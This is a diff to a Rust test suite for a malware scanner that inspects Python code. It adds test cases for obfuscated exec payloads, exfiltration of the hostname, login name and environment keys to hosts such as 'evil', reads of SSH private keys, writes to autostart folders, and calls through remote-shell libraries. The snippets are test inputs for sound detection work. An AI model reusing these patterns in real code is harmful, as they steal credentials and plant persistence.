@@ -299,9 +299,15 @@ fn detects_resource_exhaustion() {
         "import threading\nwhile True:\n    threading.Thread(target=print).start()\n",
     ] {
         let r = scan(src);
-        assert!(r.findings.iter().any(|f| f.rule == "infinite-loop"), "{src}");
+        assert!(
+            r.findings.iter().any(|f| f.rule == "infinite-loop"),
+            "{src}"
+        );
         assert!(!r.is_blocking(), "{src}: {:#?}", r.findings);
-        assert!(analyze::python(src, &Rules::strict()).is_blocking(), "{src}");
+        assert!(
+            analyze::python(src, &Rules::strict()).is_blocking(),
+            "{src}"
+        );
     }
     assert_blocks("s = 'a' * 10**10\n");
     assert_blocks("x = [0] * (10 ** 9)\n");
@@ -698,8 +704,238 @@ fn stances_on_loops_and_python_processes() {
         assert!(!r.is_blocking(), "{src}: {:#?}", r.findings);
         assert_eq!(r.max_severity(), Some(Severity::Info), "{src}");
         // Strict: both block.
-        assert!(analyze::python(src, &Rules::strict()).is_blocking(), "{src}");
+        assert!(
+            analyze::python(src, &Rules::strict()).is_blocking(),
+            "{src}"
+        );
     }
     // Choosing which program the workers run is still running a program.
     assert_blocks("import multiprocessing\nmultiprocessing.set_executable('/bin/sh')\n");
+}
+
+// ------------------------------------------------------------------ misses from real malware
+
+#[test]
+fn opaque_payloads_are_opaque_code() {
+    use std::fmt::Write;
+    let blob: String = (0..400).map(|i| ["QU", "Jj", "ZG", "Vm"][i % 4]).collect();
+    let hex: String = (0..300).fold(String::new(), |mut s, i| {
+        let _ = write!(s, "{:02x}", (i * 7) % 256);
+        s
+    });
+    for src in [
+        "from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'PYARMOR\\x00\\x00\\x03\\x08')\n".to_string(),
+        "from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000\\x00\\x03')\n".to_string(),
+        format!("import base64, zlib\nexec(zlib.decompress(base64.b64decode('{blob}')))\n"),
+        format!("import marshal, base64\ncode = marshal.loads(base64.b64decode(\"{blob}\"))\nexec(code)\n"),
+        format!("import bz2, binascii\npayload = bz2.decompress(binascii.unhexlify('{hex}'))\neval(compile(payload, '<x>', 'exec'))\n"),
+        format!("import lzma\nd = lzma.decompress(bytes.fromhex('{hex}'))\nexec(d)\n"),
+        format!("k = 42\ndata = '{blob}'\nsrc = ''.join(chr(ord(c) ^ k) for c in data)\nexec(src)\n"),
+        format!("import codecs\nexec(codecs.decode('{blob}', 'rot13'))\n"),
+        format!("import types, marshal, base64\nf = types.FunctionType(marshal.loads(base64.b64decode('{blob}')), globals())\nf()\n"),
+    ] {
+        let r = scan(&src);
+        assert!(
+            r.findings.iter().any(|f| f.rule == "opaque-code"),
+            "{src}: {:#?}",
+            r.findings
+        );
+        assert!(r.is_blocking());
+    }
+    // Encoded data that is decoded but never run is ordinary (images, fixtures).
+    assert_clean(&format!(
+        "import base64\nICON = '{blob}'\nwith open('icon.png', 'wb') as f:\n    f.write(base64.b64decode(ICON))\n"
+    ));
+    assert_clean(&format!(
+        "import zlib\nprint(len(zlib.compress(b'{hex}')))\n"
+    ));
+}
+
+#[test]
+fn library_capabilities_are_reported() {
+    let cases = [
+        (
+            "from selenium import webdriver\nd = webdriver.Chrome()\nd.get('https://x')\n",
+            "browser-automation",
+        ),
+        (
+            "from playwright.sync_api import sync_playwright\nwith sync_playwright() as p:\n    p.chromium.launch()\n",
+            "browser-automation",
+        ),
+        (
+            "from discord_webhook import DiscordWebhook\nDiscordWebhook(url='u', content='c').execute()\n",
+            "webhook",
+        ),
+        (
+            "import git\ng = git.Git('/tmp/x')\ng.clone('https://github.com/a/b')\n",
+            "git-remote",
+        ),
+        (
+            "from git import Repo\nRepo.clone_from('https://x/y.git', 'y')\n",
+            "git-remote",
+        ),
+        (
+            "import paramiko\nc = paramiko.SSHClient()\nc.exec_command('id')\n",
+            "remote-shell",
+        ),
+        (
+            "import ftplib\nftplib.FTP('host').login()\n",
+            "file-transfer",
+        ),
+        (
+            "import boto3\nboto3.client('s3').list_buckets()\n",
+            "cloud-sdk",
+        ),
+        (
+            "import pandas as pd\ndf = pd.read_csv('https://example.com/data.csv')\n",
+            "remote-data",
+        ),
+        (
+            "import numpy as np\na = np.load('http://x/a.npy')\n",
+            "remote-data",
+        ),
+        (
+            "import requests\nrequests.post('https://x', data={'a': 1})\n",
+            "network",
+        ),
+        ("import httpx\nhttpx.get('https://x')\n", "network"),
+        (
+            "import aiohttp\nasync def f():\n    async with aiohttp.ClientSession() as s:\n        await s.get('u')\n",
+            "network",
+        ),
+        (
+            "import urllib3\nurllib3.PoolManager().request('GET', 'u')\n",
+            "network",
+        ),
+    ];
+    for (src, rule) in cases {
+        let r = scan(src);
+        assert!(
+            r.findings.iter().any(|f| f.rule == rule) && r.is_blocking(),
+            "{src}: expected {rule}, got {:#?}",
+            r.findings
+        );
+    }
+    // Local data with the same libraries is fine.
+    assert_clean(
+        "import pandas as pd\nimport numpy as np\ndf = pd.read_csv('data.csv')\na = np.load('a.npy')\nprint(df.describe(), a.sum())\n",
+    );
+    assert_clean(
+        "from sklearn.datasets import fetch_openml\nX, y = fetch_openml('mnist_784', return_X_y=True)\n",
+    );
+}
+
+#[test]
+fn dangerous_modules_used_without_import() {
+    for src in [
+        "os.system('id')\n",
+        "subprocess.run(['id'])\n",
+        "requests.get('http://x')\n",
+        "socket.socket().connect(('h', 1))\n",
+        "def f():\n    return os.popen('id').read()\n",
+    ] {
+        assert_blocks(src);
+    }
+    // Bound names are what they are bound to.
+    assert_clean(
+        "class Os:\n    def system(self, x):\n        return x\nos = Os()\nos.system('id')\n",
+    );
+    assert_clean("def f(os):\n    return os.system('x')\n");
+}
+
+#[test]
+fn home_login_and_startup_paths() {
+    for src in [
+        "import os\nopen(f'/home/{os.getlogin()}/.bashrc', 'a').write('x')\n",
+        "import getpass\nprint(open('/home/' + getpass.getuser() + '/notes.txt').read())\n",
+        "import os\np = os.path.join(os.getenv('APPDATA'), 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup', 'x.bat')\nopen(p, 'w').write('x')\n",
+        "import os, shutil\nshutil.copy('me.py', os.path.expanduser('~/.config/autostart/me.py'))\n",
+        "import os\nopen(os.path.expandvars('%APPDATA%\\\\evil.txt'), 'w')\n",
+        "import os\nopen(f'C:\\\\Users\\\\{os.getlogin()}\\\\AppData\\\\Roaming\\\\x.txt', 'w')\n",
+        "from pathlib import Path\n(Path.home() / '.ssh' / 'id_rsa').read_text()\n",
+        "import os\nwith open(os.path.join(os.environ['USERPROFILE'], 'x.txt'), 'w') as f:\n    f.write('x')\n",
+    ] {
+        assert_blocks(src);
+    }
+    assert_clean("import getpass\nprint('hello', getpass.getuser())\n");
+    assert_clean("import os\nopen(os.path.join('out', 'result.txt'), 'w').write('x')\n");
+}
+
+#[test]
+fn recon_that_leaves_is_a_warning() {
+    let r = scan(
+        "import os, socket\nhost = socket.gethostname()\nuser = os.getlogin()\nsocket.create_connection(('evil', 80)).send((host + user).encode())\n",
+    );
+    assert!(
+        r.findings
+            .iter()
+            .filter(|f| f.rule == "recon-exfiltration" && f.severity == Severity::Warning)
+            .count()
+            >= 2,
+        "{:#?}",
+        r.findings
+    );
+    let r = scan(
+        "import os, requests\nrequests.post('https://x', json={'u': os.getlogin(), 'k': os.environ.get('KEY')})\n",
+    );
+    assert!(r.findings.iter().any(|f| f.rule == "recon-exfiltration"));
+    // Alone it stays info.
+    let r = scan("import platform, os\nprint(platform.node(), os.getlogin())\n");
+    assert!(!r.is_blocking());
+    assert!(r.findings.iter().all(|f| f.rule != "recon-exfiltration"));
+}
+
+// ------------------------------------------------------------------ labeled classes
+
+/// `tests/corpus/classes/<class>/{malicious,benign}`: samples written for each class of issue
+/// 14 (at least 10 per label), kept apart from the snippets in the tests above that the rules
+/// were tuned on. A malicious sample must block (and, where the class has its own rule, show
+/// it); a benign one must not block.
+#[test]
+fn labeled_classes() {
+    let rules = Rules::default();
+    let classes: &[(&str, Option<&str>)] = &[
+        ("code_strings", None),
+        ("opaque_payloads", Some("opaque-code")),
+        ("libraries", None),
+        ("no_import", None),
+        ("home_paths", None),
+        ("recon_flow", Some("recon-exfiltration")),
+    ];
+    let mut failures = Vec::new();
+    for &(class, rule) in classes {
+        let bad = corpus(&format!("classes/{class}/malicious"));
+        let good = corpus(&format!("classes/{class}/benign"));
+        assert!(
+            bad.len() >= 10 && good.len() >= 10,
+            "{class}: too few samples"
+        );
+        let (mut hit, mut fp) = (0, 0);
+        for path in &bad {
+            let r = analyze::python(&std::fs::read_to_string(path).expect("read"), &rules);
+            let ok =
+                r.is_blocking() && rule.is_none_or(|id| r.findings.iter().any(|f| f.rule == id));
+            hit += usize::from(ok);
+            if !ok {
+                failures.push(format!("MISS {}: {:?}", path.display(), rules_of(&r)));
+            }
+        }
+        for path in &good {
+            let r = analyze::python(&std::fs::read_to_string(path).expect("read"), &rules);
+            if r.is_blocking() {
+                fp += 1;
+                failures.push(format!(
+                    "FALSE POSITIVE {}: {:?}",
+                    path.display(),
+                    rules_of(&r)
+                ));
+            }
+        }
+        println!(
+            "{class}: {hit}/{} caught, {fp}/{} benign flagged",
+            bad.len(),
+            good.len()
+        );
+    }
+    assert!(failures.is_empty(), "{failures:#?}");
 }
